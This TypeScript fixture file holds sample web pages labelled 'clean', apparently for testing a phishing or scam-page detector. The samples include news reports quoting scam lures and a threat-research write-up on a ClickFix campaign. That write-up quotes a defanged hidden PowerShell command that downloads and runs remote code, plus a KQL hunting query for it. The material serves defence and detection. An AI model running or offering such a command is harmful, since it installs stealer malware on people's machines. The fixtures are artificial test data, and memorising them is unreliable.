import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, newsArticle, wpBlog } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-clean-news-pk-8171-sms-scam',
  label: 'clean',
  kind: 'news-quoting-lures',
  url: 'https://www.dawn.com/news/1918274/fake-bisp-8171-messages-target-women-beneficiaries',
  body: newsArticle({
    outlet: 'DAWN',
    color: '#0a3d62',
    section: 'Pakistan',
    headline: 'Fake BISP 8171 messages target women beneficiaries',
    byline: 'Kalbe Ali',
    date: 'Published June 11, 2025',
    paragraphs: [
      'ISLAMABAD: The Benazir Income Support Programme (BISP) has warned beneficiaries against fraudulent messages and websites that promise a Rs25,000 instalment in exchange for "online registration".',
      'According to officials, the fraudsters send SMS and WhatsApp messages from ordinary mobile numbers, claiming that the recipient has been selected for the Ehsaas Kafaalat programme. A typical message reads: <i>"Mubarak ho! Aap ki 25000 ki raqam aa gayi hai. Apna CNIC aur easypaisa number is link par darj karein: 8171-ehsaas-program[.]online"</i>.',
      'The websites copy the programme\'s logo and ask for the CNIC number, the mother\'s name and the PIN of the beneficiary\'s mobile wallet, which is then used to empty the account.',
      'A BISP spokesperson said messages about payments are only sent from the 8171 short code and that eligibility can only be checked on the official 8171 portal or by sending the CNIC number to 8171. "BISP never asks for a PIN, an OTP or a fee," she said.',
      'The Federal Investigation Agency\'s cybercrime wing said it had blocked 146 such websites and arrested four suspects in Sargodha and Mandi Bahauddin this year.',
    ],
    related: ['PTA blocks 11,000 SIMs used in fraud calls', 'How to check BISP eligibility through 8171'],
  }),
},
{
  id: 'zy-clean-news-my-cleaning-app-scam-malay',
  label: 'clean',
  kind: 'news-quoting-lures',
  url: 'https://www.bharian.com.my/berita/kes/2025/06/1412873/wanita-rugi-rm48000-selepas-muat-turun-aplikasi-servis-cuci-rumah',
  body: newsArticle({
    outlet: 'Berita Harian',
    color: '#c4161c',
    lang: 'ms',
    section: 'Kes',
    headline: 'Wanita rugi RM48,000 selepas muat turun aplikasi servis cuci rumah',
    byline: 'Oleh Nor Azizah Mokhtar',
    date: 'Jun 14, 2025 @ 3:20pm',
    paragraphs: [
      'KUALA LUMPUR: Seorang pegawai bank wanita kerugian RM48,000 selepas memuat turun aplikasi yang didakwa untuk menempah perkhidmatan cuci rumah pada harga promosi RM20.',
      'Ketua Jabatan Siasatan Jenayah Komersial (JSJK) Bukit Aman berkata, mangsa melihat iklan di Facebook dan dihubungi melalui WhatsApp sebelum diminta memuat turun fail APK untuk membuat deposit RM1.',
      '"Aplikasi tersebut meminta kebenaran aksesibiliti dan membaca SMS. Pada malam yang sama, lapan transaksi dibuat dari akaun mangsa ke akaun keldai," katanya dalam satu kenyataan.',
      'Polis menasihatkan orang ramai supaya hanya memuat turun aplikasi dari Google Play Store atau App Store, serta menghubungi Pusat Respons Scam Kebangsaan (NSRC) di talian 997 dengan segera jika menjadi mangsa.',
    ],
    related: ['Macau scam: Warga emas rugi RM1.2 juta', 'Semak akaun keldai di portal Semak Mule PDRM'],
  }),
},
{
  id: 'zy-clean-secblog-clickfix-analysis-commands',
  label: 'clean',
  kind: 'security-writeup',
  url: 'https://blog.asean-threatlab.com/2025/06/clickfix-campaign-indonesian-wordpress/',
  body: doc({
    title: 'ClickFix campaign abuses hacked Indonesian WordPress sites | ASEAN ThreatLab',
    css: `body{margin:0;font-family:"Source Sans Pro",Arial;color:#222;background:#fff}.hd{background:#101820;color:#fff;padding:14px 28px;font-weight:700}.w{max-width:800px;margin:30px auto;padding:0 20px}.w p,.w li{line-height:1.75;font-size:17px}
pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:8px;overflow:auto;font-size:13px;position:relative}table{border-collapse:collapse;width:100%;font-size:14px}td,th{border:1px solid #ddd;padding:8px;text-align:left}
.cp{position:absolute;top:8px;right:8px;background:#334155;color:#fff;border:0;border-radius:4px;font-size:11px;padding:4px 8px;cursor:pointer}.tag{display:inline-block;background:#eef;border-radius:10px;padding:2px 8px;font-size:12px;margin-right:4px}`,
    body: `<div class="hd">ASEAN ThreatLab</div><div class="w"><span class="tag">ClickFix</span><span class="tag">Lumma Stealer</span><span class="tag">Indonesia</span>
<h1>ClickFix campaign abuses hacked Indonesian WordPress sites</h1><p style="color:#777">By Dewi Anggraini · 24 June 2025</p>
<p>Since early May we have tracked more than 220 compromised WordPress sites, mostly recipe, school and village-government blogs, that inject a script from a look-alike CDN domain. The script covers the page with a fake Cloudflare check in Indonesian ("Verifikasi bahwa Anda adalah manusia") and, when the visitor clicks the checkbox, copies a PowerShell command to the clipboard.</p>
<p>The instructions then tell the visitor to press <b>Win + R</b>, <b>Ctrl + V</b> and <b>Enter</b>. The copied command, defanged:</p>
<pre><button class="cp" data-t="ioc">Copy</button>powershell -w hidden -nop -c "iex(irm 'hxxps://update-cdn-check[.]com/v/ps1?id=7f31')" # ✅ Cloudflare: I am human - Ray ID: 8d4f2a91c7e3</pre>
<p>The trailing comment is what the victim sees in the narrow Run dialog, so the command looks like a harmless verification string. The second stage downloads a ZIP containing a signed, legitimate executable that side-loads a malicious DLL, which ultimately runs Lumma Stealer.</p>
<h3>Indicators</h3><table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td>cdn-jsdelivr-static[.]com</td></tr><tr><td>Domain</td><td>update-cdn-check[.]com</td></tr><tr><td>Script path</td><td>/npm/wp-cache-helper@2.1.4/dist/w.min.js</td></tr><tr><td>SHA-256</td><td>9c0d3e4f…e21a (stage 2 ZIP)</td></tr></table>
<h3>Detection</h3><p>Hunting query for EDR telemetry (explorer.exe spawning PowerShell with a comment after the command):</p>
<pre><button class="cp" data-t="kql">Copy</button>DeviceProcessEvents
| where InitiatingProcessFileName =~ "explorer.exe"
| where FileName in~ ("powershell.exe","mshta.exe")
| where ProcessCommandLine has_any ("iex","irm","iwr") and ProcessCommandLine contains "#"</pre>
<p>Site owners should update WordPress core and plugins, rotate administrator passwords, and search their theme's <code>functions.php</code> and the <code>wp_options</code> table for the injected script tag.</p></div>
<script>document.querySelectorAll(".cp").forEach(function(b){b.onclick=function(){var t=b.parentNode.textContent.replace(/^Copy/,"");navigator.clipboard.writeText(t);b.textContent="Copied"}});</script>`,
  }),
},
{
  id: 'zy-clean-parked-gcash-promo-domain',
  label: 'clean',
  kind: 'parked-domain',
  url: 'https://gcash-promo.com/',
  body: doc({
    title: 'gcash-promo.com',
    css: `body{margin:0;font-family:Arial;background:#f0f0f0;color:#333}.top{background:#fff;padding:30px;text-align:center;border-bottom:1px solid #ddd}.top h1{font-size:34px;margin:0;color:#222}.sale{background:#2a9d8f;color:#fff;display:inline-block;padding:10px 22px;border-radius:4px;margin-top:12px;text-decoration:none}
.rel{max-width:700px;margin:30px auto}.rel h3{font-size:14px;color:#888;text-transform:uppercase}.rel a{display:block;background:#fff;border:1px solid #ddd;padding:14px;margin:6px 0;color:#1a0dab;text-decoration:none;font-size:18px}.ft{text-align:center;font-size:11px;color:#999;margin:30px}`,
    body: `<div class="top"><h1>gcash-promo.com</h1><p>This domain may be for sale!</p><a class="sale" href="https://www.dan.com/buy-domain/gcash-promo.com?redirected=true">Buy this domain</a></div>
<div class="rel"><h3>Related searches</h3><a href="/search?q=Mobile+Wallet+Philippines">Mobile Wallet Philippines</a><a href="/search?q=Online+Money+Transfer">Online Money Transfer</a><a href="/search?q=Cashback+Credit+Card">Cashback Credit Card</a><a href="/search?q=Personal+Loan+Online">Personal Loan Online</a></div>
<p class="ft">2025 Copyright. All Rights Reserved. The Sponsored Listings displayed above are served automatically by a third party. Neither the service provider nor the domain owner maintain any relationship with the advertisers. <a href="/privacy">Privacy Policy</a></p>
<script>window.park="eyJ1dWlkIjoiYjRmMWEyZDAiLCJwYWdlX3RpbWUiOjE3MTg3MDAwMDB9";</script>`,
  }),
},
{
  id: 'zy-clean-sid-shortlink-interstitial',
  label: 'clean',
  kind: 'shortener',
  url: 'https://s.id/pendaftaran-beasiswa-kip-2025',
  body: doc({
    title: 's.id — Anda akan diarahkan',
    lang: 'id',
    head: '<meta http-equiv="refresh" content="5;url=https://kip-kuliah.kemdikbud.go.id/">',
    css: `body{margin:0;font-family:"Inter",Arial;background:#f7f7fb;color:#222;text-align:center}.b{max-width:480px;margin:12vh auto;background:#fff;border-radius:14px;padding:30px;box-shadow:0 4px 20px rgba(0,0,0,.06)}.l{font:800 28px Arial;color:#5b3df5}
.u{background:#f1f0ff;border-radius:8px;padding:10px;word-break:break-all;font-size:14px}a.go{display:inline-block;margin-top:16px;background:#5b3df5;color:#fff;padding:12px 24px;border-radius:8px;text-decoration:none}.ad{margin-top:20px;background:#f2f2f2;height:90px;display:flex;align-items:center;justify-content:center;color:#aaa;font-size:12px}`,
    body: `<div class="b"><div class="l">s.id</div><p>Tautan ini akan membawa Anda ke:</p><div class="u">https://kip-kuliah.kemdikbud.go.id/</div><p style="font-size:13px;color:#777">Dialihkan otomatis dalam <span id="c">5</span> detik. Periksa alamat tujuan sebelum memasukkan data pribadi.</p>
<a class="go" href="https://kip-kuliah.kemdikbud.go.id/">Lanjutkan</a><div class="ad">Iklan</div><p style="font-size:11px;color:#aaa">Laporkan tautan berbahaya: abuse@s.id</p></div>
<script>var n=5;setInterval(function(){if(n>0)document.getElementById("c").textContent=--n},1000);</script>`,
  }),
  routes: {
    'kip-kuliah.kemdikbud.go.id/': htmlRoute(doc({ title: 'KIP Kuliah - Kementerian Pendidikan', lang: 'id', body: '<div style="font-family:Arial;max-width:800px;margin:30px auto"><h1>KIP Kuliah 2025</h1><p>Pendaftaran akun KIP Kuliah dibuka 3 Februari – 31 Oktober 2025. Siapkan NISN, NPSN sekolah, NIK dan alamat email aktif. Pendaftaran tidak dipungut biaya.</p><p><a href="/siswa/daftar">Daftar akun siswa</a> · <a href="/siswa/login">Masuk</a></p></div>' })),
  },
},
{
  id: 'zy-clean-challenge-page-then-shop',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://www.tokomurahmeriah.co.id/produk/rice-cooker-miyako-mcm-528',
  body: doc({
    title: 'Just a moment...',
    head: '<meta name="robots" content="noindex,nofollow"><meta http-equiv="refresh" content="8">',
    css: `body{margin:0;font-family:system-ui,-apple-system,"Segoe UI",Roboto,Arial;color:#313131;background:#fff}.main{max-width:60rem;margin:8rem auto 0;padding:0 1.5rem}h1{font-size:2.5rem;font-weight:500;margin:0}h2{font-size:1.5rem;font-weight:400;margin:1rem 0 2rem}
.spin{width:32px;height:32px;border:3px solid #e0e0e0;border-top-color:#f38020;border-radius:50%;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}.ft{font-size:.75rem;color:#666;border-top:1px solid #d9d9d9;margin-top:6rem;padding-top:1rem;text-align:center}`,
    body: `<div class="main"><h1>www.tokomurahmeriah.co.id</h1><h2>Verifying you are human. This may take a few seconds.</h2><div id="turnstile-wrapper"><div class="spin"></div></div><p>www.tokomurahmeriah.co.id needs to review the security of your connection before proceeding.</p>
<noscript><p>Enable JavaScript and cookies to continue</p></noscript></div><div class="ft">Ray ID: <code>8d5a1f0b3e6c2a47</code> · Performance &amp; security by <a href="https://www.cloudflare.com/5xx-error-landing">Cloudflare</a></div>
<script>(function(){window._cf_chl_opt={cvId:'3',cZone:"www.tokomurahmeriah.co.id",cType:'managed',cRay:'8d5a1f0b3e6c2a47',cH:'Xk9.2mQ',cUPMDTk:"\\/produk\\/rice-cooker-miyako-mcm-528?__cf_chl_tk=Rk2mN7yTq1Vb",cFPWv:'g',cITimeS:'1718900000'};var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/h/g/orchestrate/chl_page/v1?ray=8d5a1f0b3e6c2a47';document.getElementsByTagName('head')[0].appendChild(a);}());</script>`,
  }),
  routes: {
    'www.tokomurahmeriah.co.id/cdn-cgi/challenge-platform/h/g/orchestrate/chl_page/v1': { status: 200, headers: { 'content-type': 'application/javascript' }, body: 'window._cf_chl_done=1;' },
  },
},
{
  id: 'zy-clean-ms-qa-powershell-fix-copy-buttons',
  label: 'clean',
  kind: 'benign-clipboard',
  url: 'https://learn.microsoft.com/en-us/answers/questions/1894412/windows-11-microphone-not-working-after-update',
  body: doc({
    title: 'Windows 11 microphone not working after update - Microsoft Q&A',
    css: `body{margin:0;font-family:"Segoe UI",Arial;color:#171717;background:#fff}.hd{border-bottom:1px solid #e0e0e0;padding:12px 24px;font-weight:600}.w{max-width:860px;margin:24px auto;padding:0 20px}.q,.a{border:1px solid #e0e0e0;border-radius:6px;padding:18px;margin-bottom:16px}
.a{border-left:4px solid #107c10}.code{position:relative;background:#f5f5f5;border:1px solid #e0e0e0;border-radius:4px;margin:10px 0}.code pre{margin:0;padding:12px;font-family:Consolas,monospace;font-size:14px;overflow:auto}.code button{position:absolute;top:6px;right:6px;font-size:12px;border:1px solid #ccc;background:#fff;border-radius:3px;padding:2px 8px;cursor:pointer}
.meta{font-size:13px;color:#616161}`,
    body: `<div class="hd">Microsoft Q&amp;A</div><div class="w"><div class="q"><h1 style="font-size:24px">Windows 11 microphone not working after update</h1><p>After installing KB5039302 my USB headset microphone doesn't work in Teams or Zoom. The device shows in Sound settings but the level bar doesn't move. Any ideas?</p><p class="meta">Asked by Farhan Iqbal · Jun 18, 2025</p></div>
<div class="a"><p><b>Accepted answer</b></p><p>Hi Farhan, first check that apps are allowed to use the microphone: <b>Settings › Privacy &amp; security › Microphone</b>. If that's on, run the built-in troubleshooter and restart the audio services. Open <b>Windows PowerShell (Admin)</b> and run:</p>
<div class="code"><button data-c="a">Copy</button><pre id="a">Get-Service -Name Audiosrv, AudioEndpointBuilder | Restart-Service -Force</pre></div>
<p>If the problem persists, repair system files:</p><div class="code"><button data-c="b">Copy</button><pre id="b">sfc /scannow
DISM /Online /Cleanup-Image /RestoreHealth</pre></div>
<p>Finally, reinstall the driver from Device Manager (right-click your headset › Uninstall device, then unplug and plug it back in). Let me know if this helps.</p><p class="meta">Answered by Reza Tan · Independent Advisor · Jun 18, 2025</p></div></div>
<script>document.querySelectorAll(".code button").forEach(function(b){b.addEventListener("click",function(){navigator.clipboard.writeText(document.getElementById(b.dataset.c).innerText).then(function(){b.textContent="Copied";setTimeout(function(){b.textContent="Copy"},1500)})})});</script>`,
  }),
},
];
